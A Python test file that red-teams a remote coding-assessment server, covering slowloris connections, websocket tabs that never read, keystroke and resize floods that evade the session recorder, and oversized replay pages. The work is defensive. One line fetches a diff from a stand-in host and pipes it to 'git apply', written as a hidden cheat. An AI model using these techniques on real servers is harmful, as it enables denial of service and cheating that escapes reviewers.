"""Red team 17d: remote assessments for hiring teams (`sweserve assess serve`, `sweserve/assess/`), attacked by a
candidate who controls the browser, every HTTP and websocket message, and the sandbox as root.

Each test is written to fail while the attack works and to pass once it is defended; controls keep honest
behaviour working. Real servers on 127.0.0.1, real sockets and websockets; a local shell stands in for the
sandbox's (no Docker).
"""

from __future__ import annotations

import hashlib
import json
import socket
import threading
import time

import pytest
from test_assess import T0, bundle, free_port

import sweserve.assess.server as server_mod
from sweserve.assess.agent import Seat
from sweserve.assess.invites import Invite, InviteStore
from sweserve.assess.packs import choose_pack
from sweserve.assess.recorder import BrowserTerminal
from sweserve.assess.server import Assessment, AssessServer, cookie_name


def serve_options() -> dict:
    """What `assess serve` passes uvicorn besides the app, host and port (at 359f69a the CLI spelled these out)."""
    return dict(getattr(server_mod, "SERVE_OPTIONS", None) or {
        "ws": "websockets", "ws_max_size": server_mod.WS_MAX_BYTES, "ws_per_message_deflate": False})


class Running:
    """An `AssessServer` on uvicorn, configured as `assess serve` configures it, on a free port of 127.0.0.1."""

    def __init__(self, server: AssessServer):
        import uvicorn

        self.port = free_port()
        self.uv = uvicorn.Server(uvicorn.Config(server.app(), host="127.0.0.1", port=self.port, log_level="error",
                                                **serve_options()))
        self.thread = threading.Thread(target=self.uv.run, daemon=True)

    def __enter__(self) -> "Running":
        self.thread.start()
        wait = time.monotonic() + 10
        while not self.uv.started and time.monotonic() < wait:
            time.sleep(0.05)
        return self

    def __exit__(self, *exc) -> None:
        self.uv.should_exit = True
        self.thread.join(10)


def empty_server(tmp_path) -> AssessServer:
    return AssessServer(None, {}, InviteStore(tmp_path / "i.json"), tmp_path, tmp_path)  # type: ignore[arg-type]


# ---- R17d-1: connections that never finish their request head are held forever (slowloris)

def _closed_within(sock: socket.socket, seconds: float, dribble: bytes = b"") -> bool:
    """Whether the server closes `sock` within `seconds`, while the client sends one byte of `dribble` every
    0.2 s (a request head that never ends)."""
    sock.settimeout(0.2)
    end = time.monotonic() + seconds
    i = 0
    while time.monotonic() < end:
        try:
            if sock.recv(4096) == b"":
                return True
        except TimeoutError:
            pass
        except OSError:
            return True
        if dribble:
            try:
                sock.sendall(dribble[i % len(dribble):i % len(dribble) + 1])
            except OSError:
                return True
            i += 1
    return False


def test_r17d_1_a_request_head_that_never_ends_does_not_hold_a_connection(tmp_path, monkeypatch):
    """uvicorn arms no timer on a new connection (its keep-alive timer starts after a response, and every byte
    received cancels it): a client that opens connections and sends nothing, or sends a request head a byte at a
    time and never ends it, holds each open for as long as it likes. One candidate with a loop of them fills the
    server's file descriptors (1,024 by default): `accept` fails for every other candidate, and the server's own
    threads can no longer open a cast, a pseudo-terminal or a `docker exec` (every new session ends in `error`).
    Won before the fix: both connections were still open after the whole wait. Defence: the server's HTTP
    protocol gives each request head a deadline (`REQUEST_HEAD_S`), from the connection's start or the end of the
    previous response; a connection that has not sent a whole head by then is closed."""
    monkeypatch.setattr(server_mod, "REQUEST_HEAD_S", 1.0, raising=False)
    with Running(empty_server(tmp_path)) as srv:
        idle = socket.create_connection(("127.0.0.1", srv.port))
        slow = socket.create_connection(("127.0.0.1", srv.port))
        slow.sendall(b"GET /s HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        try:
            assert _closed_within(slow, 4.0, dribble=b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"), \
                "a request head sent a byte at a time holds its connection"
            assert _closed_within(idle, 1.0), "a connection that sends nothing is held"
        finally:
            idle.close()
            slow.close()


def test_r17d_1_a_kept_alive_connection_that_starts_no_next_request_is_closed(tmp_path, monkeypatch):
    """The same after a first request answered: the next head dribbled a byte at a time (each byte cancelled
    uvicorn's keep-alive timer) holds the connection. Defence: the head deadline is armed again after each
    response."""
    monkeypatch.setattr(server_mod, "REQUEST_HEAD_S", 1.0, raising=False)
    with Running(empty_server(tmp_path)) as srv:
        sock = socket.create_connection(("127.0.0.1", srv.port))
        try:
            sock.sendall(b"GET /nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            sock.settimeout(5)
            assert sock.recv(65536).startswith(b"HTTP/1.1 404")
            sock.sendall(b"GET /s HTTP/1.1\r\n")
            assert _closed_within(sock, 4.0, dribble=b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n")
        finally:
            sock.close()


def test_r17d_1_control_slow_but_honest_requests_and_websockets_are_served(tmp_path, monkeypatch):
    """A request whose head comes whole within the deadline is answered, however long its handler takes after;
    a websocket lives past the deadline (its head was whole)."""
    from websockets.sync.client import connect

    monkeypatch.setattr(server_mod, "REQUEST_HEAD_S", 1.0, raising=False)
    server = empty_server(tmp_path)
    pack = choose_pack("p", [bundle(1)], 1, 3600)
    invite = Invite(invite_id="x", candidate="alice", pack="p.yaml", pack_version=pack.version,
                    token_sha256="0" * 64, created_at=T0, expires_at=T0)
    seat = Seat("alice")
    server.sessions[hashlib.sha256(b"alice-key").hexdigest()] = Assessment(invite, pack, [bundle(1)],
                                                                           tmp_path / "r.jsonl", seat,
                                                                           status="running")
    term = BrowserTerminal(["bash", "--norc", "--noprofile", "-i"], tmp_path / "c.cast").start()
    seat.take("o__r-1", term, time.time() + 600)
    try:
        with Running(server) as srv:
            sock = socket.create_connection(("127.0.0.1", srv.port))
            sock.sendall(b"GET /nowhere HTTP/1.1\r\n")
            time.sleep(0.4)
            sock.sendall(b"Host: 127.0.0.1\r\n\r\n")
            sock.settimeout(5)
            assert sock.recv(65536).startswith(b"HTTP/1.1 404")
            sock.close()
            with connect(f"ws://127.0.0.1:{srv.port}/ws", open_timeout=5,
                         additional_headers={"Cookie": f"{cookie_name(srv.port)}=alice-key",
                                             "Origin": f"http://127.0.0.1:{srv.port}"}) as conn:
                time.sleep(2.5)  # past the head deadline
                conn.send(json.dumps({"type": "input", "data": "echo alive-$((6*7))\r"}))
                got, end = b"", time.monotonic() + 10
                while b"alive-42" not in got and time.monotonic() < end:
                    got += conn.recv(timeout=5)
                assert b"alive-42" in got
    finally:
        term.write(b"exit\r")
        term.exited.wait(10)
        term.stop()


# ---- R17d-2: a tab closed for falling behind frees its place at once, while the server still holds its backlog

def seated(tmp_path, server: AssessServer, candidate: str) -> Seat:
    """A running session of `candidate` on `server`, its cookie's key `<candidate>-key`; its seat."""
    pack = choose_pack("p", [bundle(1)], 1, 3600)
    invite = Invite(invite_id="x", candidate=candidate, pack="p.yaml", pack_version=pack.version,
                    token_sha256="0" * 64, created_at=T0, expires_at=T0)
    seat = Seat(candidate)
    server.sessions[hashlib.sha256(f"{candidate}-key".encode()).hexdigest()] = Assessment(
        invite, pack, [bundle(1)], tmp_path / "r.jsonl", seat, status="running")
    return seat


def _session(tmp_path, server: AssessServer) -> BrowserTerminal:
    seat = seated(tmp_path, server, "mallory")
    term = BrowserTerminal(["bash", "--norc", "--noprofile", "-i"], tmp_path / "c.cast").start()
    seat.take("o__r-1", term, time.time() + 600)
    return term


def _deaf_tab(port: int) -> tuple[socket.socket, bool]:
    """A websocket opened by hand that never reads after the handshake (its receive buffer as small as the kernel
    allows), and whether the server let it watch (False: its first frame is a close, 4429)."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", port))
    sock.sendall((f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                  f"Origin: http://127.0.0.1:{port}\r\nCookie: {cookie_name(port)}=mallory-key\r\n\r\n").encode())
    sock.settimeout(5)
    head = b""
    while b"\r\n\r\n" not in head:
        head += sock.recv(1)
    assert head.startswith(b"HTTP/1.1 101"), head
    sock.settimeout(1.0)
    try:
        first = sock.recv(1)  # the first frame's first byte, and nothing more
    except TimeoutError:
        return sock, True
    return sock, first[:1] != b"\x88"


def _flood(term: BrowserTerminal, mib: int) -> None:
    """The sandbox prints `mib` MiB; back once the server has relayed it all."""
    before = term.record.screen_bytes
    term.write(f"head -c {mib * 2**20} /dev/zero | tr '\\0' a; echo\r".encode())
    end = time.monotonic() + 60
    while term.record.screen_bytes < before + mib * 2**20 and time.monotonic() < end:
        time.sleep(0.1)


def test_r17d_2_tabs_that_do_not_read_cannot_outnumber_the_watcher_limit(tmp_path):
    """A tab that reads its output too slowly is unsubscribed past 4 MiB queued (R14b-4), and its place among the
    terminal's `MAX_WATCHERS` is free at once; but the tab is not gone: its handler is stuck sending the output
    already queued to a client that never reads, and holds it (up to 4 MiB) until websocket pings time out. The
    candidate opens a tab that never reads, prints a few MiB in the sandbox (free), and opens the next: each
    holds 4 MiB more of the server's memory, at the rate the sandbox prints, with no limit but the ping timeout
    (40 s of a pseudo-terminal's output: gigabytes). Won before the fix: 8 deaf tabs watched one terminal at once
    (limit 4). Defence: a tab holds its place until its connection ends, not until it is unsubscribed; and a tab
    that fell behind drops what was queued for it at once (it reconnects to the recent output anyway)."""
    from sweserve.assess.recorder import MAX_WATCHERS

    server = empty_server(tmp_path)
    term = _session(tmp_path, server)
    tabs = []
    try:
        with Running(server) as srv:
            watching = 0
            for _ in range(2 * MAX_WATCHERS):
                sock, watches = _deaf_tab(srv.port)
                tabs.append(sock)
                watching += watches
                _flood(term, 12)  # past the kernel's buffers and the tab's 4 MiB
            assert watching <= MAX_WATCHERS, f"{watching} tabs that never read watched one terminal at once"
    finally:
        for sock in tabs:
            sock.close()
        term.write(b"exit\r")
        term.exited.wait(10)
        term.stop()


def test_r17d_2_control_a_tab_that_fell_behind_frees_its_place_when_it_goes(tmp_path):
    """Four tabs fall behind and their connections end (the page's reconnect after 4001): a new tab watches and
    works the same shell."""
    from websockets.sync.client import connect

    from sweserve.assess.recorder import MAX_WATCHERS

    server = empty_server(tmp_path)
    term = _session(tmp_path, server)
    try:
        with Running(server) as srv:
            tabs = [_deaf_tab(srv.port)[0] for _ in range(MAX_WATCHERS)]
            _flood(term, 12)
            for sock in tabs:
                sock.close()
            got, end = b"", time.monotonic() + 20
            while b"back-42" not in got and time.monotonic() < end:
                with connect(f"ws://127.0.0.1:{srv.port}/ws", open_timeout=5,
                             additional_headers={"Cookie": f"{cookie_name(srv.port)}=mallory-key",
                                                 "Origin": f"http://127.0.0.1:{srv.port}"}) as conn:
                    conn.send(json.dumps({"type": "input", "data": "echo back-$((6*7))\r"}))
                    try:
                        while b"back-42" not in got:
                            got += conn.recv(timeout=2)
                    except Exception:  # noqa: BLE001 - refused (4429) while the old tabs close: try again
                        time.sleep(0.5)
            assert b"back-42" in got
    finally:
        term.write(b"exit\r")
        term.exited.wait(10)
        term.stop()


# ---- R17d-3: keys typed past the cast's input budget still reach the shell, recorded nowhere

def test_r17d_3_keys_past_the_recording_limit_never_reach_the_shell_unrecorded(tmp_path, monkeypatch):
    """The cast's input budget (64 MiB) is spent in seconds by pasting into `cat >/dev/null` (the websocket takes
    64 KiB a message); after it, `CastWriter.event` drops every key and writes one marker, but `write` still hands
    the keys to the terminal. Worse, the budget is checked per event: a message too big for what is left is
    dropped and runs, and the small ones after it are kept again, so the list reads `⟨cut⟩`, then the next
    commands as if nothing came between. Won before the fix: a command sent as one 4 KB message after the flood
    ran (its file exists) and is on no record, and `echo after` was listed after the marker that says nothing
    after it was kept. Defence: the cut is final for each kind of event, and a key the cast did not keep is never
    delivered (dropped, as a full queue drops keys): the shell gets only what the record holds. Here the budget
    is made 64 KiB so the test is quick; the mechanism is the same at 64 MiB."""
    import sweserve.assess.recorder as rec

    monkeypatch.setattr(rec, "CAST_MAX_BYTES", 64 * 1024)
    proof = tmp_path / "ran-unrecorded"
    term = BrowserTerminal(["bash", "--norc", "--noprofile", "-i"], tmp_path / "c.cast").start()
    try:
        term.write(b"cat >/dev/null\r")
        for _ in range(100):
            term.write((("a" * 999) + "\n").encode())
        term.write(b"\x04")
        time.sleep(0.5)
        # one message the budget has no room for (bash skips the leading blanks): dropped from the record
        term.write((" " * 4000 + f"touch {proof}\r").encode())
        end = time.monotonic() + 5
        while not proof.exists() and time.monotonic() < end:
            time.sleep(0.1)
        term.write(b"echo after\r")  # and typing goes on, recorded again: the marker's "nothing after" is wrong
        time.sleep(0.5)
    finally:
        term.write(b"exit\r")
        term.exited.wait(5)
        term.stop()
    listed = [c for _, c in rec.commands_from_cast(tmp_path / "c.cast")]
    assert any(rec.CUT in c for c in listed)  # the record says where it stops
    assert not proof.exists() or any(str(proof) in c for c in listed), \
        "a command typed past the recording limit ran, and is on no record"
    cut = next(i for i, c in enumerate(listed) if rec.CUT in c)
    assert not any("echo after" in c for c in listed[cut:]), "the record says nothing after its cut was kept"


def test_r17d_3_control_typing_within_the_budget_reaches_the_shell(tmp_path):
    proof = tmp_path / "ran"
    term = BrowserTerminal(["bash", "--norc", "--noprofile", "-i"], tmp_path / "c.cast").start()
    try:
        term.write(f"touch {proof}\r".encode())
        end = time.monotonic() + 10
        while not proof.exists() and time.monotonic() < end:
            time.sleep(0.1)
    finally:
        term.write(b"exit\r")
        term.exited.wait(5)
        term.stop()
    assert proof.exists()


# ---- R17d-4: resizes past the cast's resize budget still resize the terminal: the replay draws at the wrong size

def _size_seen(term: BrowserTerminal, tmp_path, name: str) -> str:
    out = tmp_path / name
    term.write(f"stty size > {out}\r".encode())
    end = time.monotonic() + 10
    while not (out.exists() and out.read_text().strip()) and time.monotonic() < end:
        time.sleep(0.1)
    return out.read_text().strip()


def test_r17d_4_the_terminal_is_the_size_the_replay_draws(tmp_path, monkeypatch):
    """Window sizes have a budget of their own in the cast (1 MiB: R14c-10); past it `resize` still resized the
    pseudo-terminal, recording nothing. The candidate's browser sends a few tens of thousands of resize messages
    (free), then works at 500 columns while the replay draws every frame after at the last recorded size (here
    20 columns): full-screen programs and long lines render as something else than what the candidate saw.
    Won before the fix: the shell's `stty size` was `50 200` while the last recorded size was 20x5. Defence: the
    cut is final, and a size the cast did not record is not applied. The budget is made small here."""
    import sweserve.assess.recorder as rec
    from sweserve.assess.recorder import read_cast

    monkeypatch.setattr(rec, "RESIZE_MAX_BYTES", 2000)
    term = BrowserTerminal(["bash", "--norc", "--noprofile", "-i"], tmp_path / "c.cast").start()
    try:
        for i in range(200):
            term.resize(20 + i % 2, 5)
        term.resize(20, 5)
        term.resize(200, 50)
        seen = _size_seen(term, tmp_path, "size")
    finally:
        term.write(b"exit\r")
        term.exited.wait(5)
        term.stop()
    recorded = [d for _, c, d in read_cast(tmp_path / "c.cast")[1] if c == "r"]
    rows, cols = seen.split()
    assert recorded[-1] == f"{cols}x{rows}", (recorded[-3:], seen)


def test_r17d_4_control_a_resize_within_the_budget_applies_and_is_recorded(tmp_path):
    from sweserve.assess.recorder import read_cast

    term = BrowserTerminal(["bash", "--norc", "--noprofile", "-i"], tmp_path / "c.cast").start()
    try:
        term.resize(100, 30)
        seen = _size_seen(term, tmp_path, "size")
    finally:
        term.write(b"exit\r")
        term.exited.wait(5)
        term.stop()
    assert seen == "30 100"
    assert [d for _, c, d in read_cast(tmp_path / "c.cast")[1] if c == "r"] == ["100x30"]


# ---- R17d-5: keys whose record is larger than their cast (Tab, &, control keys) make an unopenable replay page

def _replay_of(folder, events):
    from test_attacks_redteam16c import result

    from sweserve.assess.agent import CAST_FILE
    from sweserve.assess.recorder import CastWriter
    from sweserve.assess.scorecard import replay_page

    cast = CastWriter(folder / CAST_FILE, 80, 24)
    for data in events:
        cast.event("i", data)
    cast.close()
    size = (folder / CAST_FILE).stat().st_size
    return size, replay_page("mallory", result("human-mallory", bundle(1), "resolved", 60, trial_dir=str(folder)))


def test_r17d_5_a_flood_of_tabs_does_not_make_the_replay_page_many_times_the_cast(tmp_path):
    """R16c-1 bounded the replay page of a one-key-line flood to twice its cast, but a key's row in the commands
    table is many times its bytes in the cast for other keys: a Tab is 2 bytes of cast (`\\t`) and 14 of page
    (`<kbd>⇥</kbd>`), `&` 1 and 5 (`&amp;`), ^A 6 and 19. Lines of Tabs (each under the 64 K characters an entry
    shows) fill the 64 MiB input budget in seconds: a ~600 MB page, which no browser opens, so the reviewer
    cannot see this task's replay. Won before the fix: the page was 8.3 times its cast. Defence: the commands
    table has a size budget of its own, two thirds of the cast it lists (never less than 1 MiB), its first nine
    tenths and last tenth kept and a row between saying how many commands are not shown; and consecutive
    tokens share one <kbd>."""
    for name, line in (("tabs", "\t" * 60000 + "\r"), ("amps", "&" * 60000 + "\r"), ("ctl", "\x01" * 16000 + "\r")):
        (tmp_path / name).mkdir()
        size, page = _replay_of(tmp_path / name, ["cat >/dev/null\r"] + [line] * 100)
        assert len(page.encode()) <= 2 * size + 2**20, f"{name}: a {len(page.encode()) / size:.1f}x page"
        assert "not shown here" in page


def test_r17d_5_control_an_honest_session_is_listed_whole(tmp_path):
    (tmp_path / "t").mkdir()
    typed = [f"pytest -x test/test_{i}.py\t-k 'a & b'\r" for i in range(300)]
    _, page = _replay_of(tmp_path / "t", typed)
    assert "not shown here" not in page
    assert page.count("pytest -x test/test_") == 300 and "test_299.py" in page


# ---- R17d-6 (lead): a flood after the command as well as before it pushes it off the commands-typed list

@pytest.mark.xfail(strict=True, reason="R17d-6: the list keeps the first 18,000 and the last 2,000 entries; a flood "
                   "typed after the command too leaves it in the uncounted middle. Needs a list whose bound an "
                   "attacker cannot fill with filler (e.g. entries ranked by what they ran, or the whole record "
                   "searchable on the page)")
def test_r17d_6_a_command_between_two_floods_is_on_the_commands_typed_list(tmp_path):
    """R16f-1 keeps the first nine tenths and the last tenth of `COMMANDS_MAX` entries so that a flood typed first
    cannot push the work after it off the list. Typed after the work as well (2,000 more one-key lines, 4 KB of
    keys), the flood leaves the work in the middle, which the list only counts: the reviewer reads 18,000 rows of
    `a`, a count, and 2,000 more rows of `a`. Won: the command is on no list (the cast alone holds it)."""
    from sweserve.assess.agent import CAST_FILE
    from sweserve.assess.recorder import COMMANDS_MAX, CastWriter, commands_from_cast

    cheat = "curl -s http://paste.example/fix.diff | git apply"
    cast = CastWriter(tmp_path / CAST_FILE, 80, 24)
    cast.event("i", "stty -echo; cat >/dev/null\r")
    cast.event("i", "a\r" * COMMANDS_MAX)
    cast.event("i", "\x03stty echo\r" + cheat + "\r")
    cast.event("i", "a\r" * (COMMANDS_MAX // 10))
    cast.close()
    assert any(cheat in c for _, c in commands_from_cast(tmp_path / CAST_FILE))


def test_r17d_6_a_session_whose_commands_list_is_not_whole_says_so_on_the_scorecard_and_csv(tmp_path):
    """What R17d-6 leaves: the list cannot hold every entry of a flood, so the scorecard (the page a panel reads
    first, not only the replay) and the CSV say how many commands typed are not on it. No honest session types
    tens of thousands of lines: the count is itself what the reviewer must see. Before, only a row in the
    middle of the replay's table said so. Control: an ordinary session's row has no such note, its count 0."""
    import csv

    from test_assess import bundle
    from test_attacks_redteam16c import result
    from test_attacks_redteam16f import _alice_resolved

    from sweserve.assess.agent import CAST_FILE, BrowserAgent, Seat
    from sweserve.assess.recorder import COMMANDS_MAX, CastWriter
    from sweserve.assess.scorecard import write_scorecards
    from sweserve.evaluation.evaluate import write_manifest
    from sweserve.evaluation.results import ResultsWriter

    pack, out = _alice_resolved(tmp_path)
    trial = tmp_path / "mallory-trial"
    cast = CastWriter(trial / CAST_FILE, 80, 24)
    cast.event("i", "stty -echo; cat >/dev/null\r")
    cast.event("i", "a\r" * COMMANDS_MAX)
    cast.event("i", "\x03stty echo\rcurl -s http://paste.example/fix.diff | git apply\r")
    cast.event("i", "a\r" * (COMMANDS_MAX // 10))
    cast.close()
    path = out / pack.name / "mallory.jsonl"
    write_manifest(path, "run-m", BrowserAgent("mallory", Seat("mallory"), 1800, lambda _b: None), [bundle(1)], 1)
    with ResultsWriter(path) as w:
        w.write(result("human-mallory", bundle(1), "resolved", 300, attempt=1, run_id="run-m", trial_dir=str(trial)))
    cards = write_scorecards(pack, out / pack.name, tmp_path / "report", None, [])
    page = cards.pages["mallory"].read_text()
    assert "commands typed are not on the commands list" in page
    assert "not on the commands list" not in cards.pages["alice"].read_text()
    rows = {r["candidate"]: r for r in csv.DictReader(cards.csv.open())}
    assert int(rows["mallory"]["commands_unlisted"]) > 0 and rows["alice"]["commands_unlisted"] == "0"
